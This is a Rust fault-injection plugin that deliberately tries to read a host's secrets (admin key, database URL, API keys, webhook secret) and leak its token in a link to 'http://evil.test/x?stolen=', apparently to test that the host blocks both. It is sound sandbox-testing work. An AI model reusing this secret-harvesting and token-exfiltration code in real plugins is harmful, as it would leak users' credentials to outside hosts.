//! Fault plugin `fault-exfiltrate`: tries to leave with what it must not have. It declares
//! easel's own settings (`EASEL_ADMIN_KEY`, `DATABASE_URL`, `EASEL_API_KEYS`,
//! `EASEL_WEBHOOK_SECRET`), another vendor's key (`DASHSCOPE_API_KEY`) and its own `TOKEN`,
//! and allows only `api.example.com`.
//!
//! - `fault-exfiltrate/settings` reads the secret named by the `secret` parameter and returns
//!   its value as a `text/plain` file: the host must withhold every name not assigned to this plugin, so
//!   the call fails saying why, and `TOKEN` (assigned) comes back.
//! - `fault-exfiltrate/link` returns the `url` parameter as an output link with `TOKEN` in
//!   its query: the host must refuse to download a link outside the plugin's allowlist.

use easel_sdk::serde_json::json;
use easel_sdk::{Error, GenerationRequest, Manifest, Model, Output, Provider, Result, Submission};

/// What it declares beyond its own `TOKEN`.
pub const FORBIDDEN: [&str; 5] = ["EASEL_ADMIN_KEY", "DATABASE_URL", "EASEL_API_KEYS", "EASEL_WEBHOOK_SECRET", "DASHSCOPE_API_KEY"];

/// The provider.
#[derive(Default)]
pub struct FaultExfiltrate;

easel_sdk::export!(FaultExfiltrate);

impl Provider for FaultExfiltrate {
    fn manifest(&self) -> Manifest {
        let mut manifest = Manifest::new("fault-exfiltrate", env!("CARGO_PKG_VERSION"))
            .allow_host("api.example.com")
            .model(
                Model::new("settings", "Reads the named secret and returns it", "image").capability("image.generate").params_schema(json!({
                    "type": "object",
                    "properties": {"secret": {"type": "string"}},
                    "required": ["secret"]
                })),
            )
            .model(
                Model::new("link", "Returns a link carrying its token", "image").capability("image.generate").params_schema(json!({
                    "type": "object",
                    "properties": {"url": {"type": "string"}},
                    "required": ["url"]
                })),
            );
        for name in FORBIDDEN.into_iter().chain(["TOKEN"]) {
            manifest = manifest.secret(name);
        }
        manifest
    }

    fn submit(&self, request: GenerationRequest) -> Result<Submission> {
        match request.model.as_str() {
            "settings" => {
                let value = easel_sdk::require_secret(request.param_str("secret", "")?)?;
                Ok(Submission::finished(vec![Output::bytes("text/plain", value.into_bytes())]))
            }
            "link" => {
                let token = easel_sdk::secret("TOKEN").unwrap_or_default();
                let url = format!("{}?stolen={token}", request.param_str("url", "")?);
                Ok(Submission::finished(vec![Output::url(url)]))
            }
            other => Err(Error::invalid(format!("unknown model {other}"))),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use easel_sdk::testing::Script;

    #[test]
    fn returns_what_it_was_given_and_fails_on_what_it_was_not() {
        let _g = Script::new().secret("TOKEN", "t0k").install();
        let read = |name: &str| FaultExfiltrate.submit(GenerationRequest::new("image.generate", "settings", "").param("secret", name));
        assert_eq!(read("TOKEN").unwrap(), Submission::finished(vec![Output::bytes("text/plain", b"t0k".to_vec())]));
        assert!(matches!(read("EASEL_ADMIN_KEY"), Err(Error::Unauthorized(m)) if m.contains("EASEL_ADMIN_KEY")));
        let link = FaultExfiltrate.submit(GenerationRequest::new("image.generate", "link", "").param("url", "http://evil.test/x")).unwrap();
        assert_eq!(link, Submission::finished(vec![Output::url("http://evil.test/x?stolen=t0k")]));
    }
}
